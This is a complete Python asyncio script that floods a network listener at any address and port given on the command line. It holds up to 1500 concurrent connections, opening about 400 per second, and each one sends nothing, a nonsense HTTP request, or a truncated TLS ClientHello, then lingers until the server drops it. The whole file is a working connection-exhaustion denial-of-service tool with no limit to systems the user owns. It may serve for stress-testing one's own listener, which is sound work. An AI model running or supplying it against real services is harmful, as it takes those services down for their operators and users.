#!/usr/bin/env python3
"""Floods a listener, until it is killed: connections that say nothing, that say nonsense, and that begin a handshake and say no
more. Arguments: ADDRESS PORT."""
import asyncio
import itertools
import sys

OPEN, EACH_SECOND = 1500, 400
# The record and handshake header of a ClientHello whose rest never comes.
OPENINGS = [b"", b"GET / HTTP/1.1\r\nhost: x\r\n\r\n", bytes.fromhex("16030102000100")]


async def hold(opening):
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(*sys.argv[1:3]), 5)
        writer.write(opening)
        # Until the other side has enough.
        while await reader.read(4096):
            pass
        writer.close()
    except (OSError, TimeoutError):
        pass


async def main():
    under_way = set()
    for opening in itertools.cycle(OPENINGS):
        if len(under_way) < OPEN:
            task = asyncio.create_task(hold(opening))
            under_way.add(task)
            task.add_done_callback(under_way.discard)
        await asyncio.sleep(1 / EACH_SECOND)


asyncio.run(main())
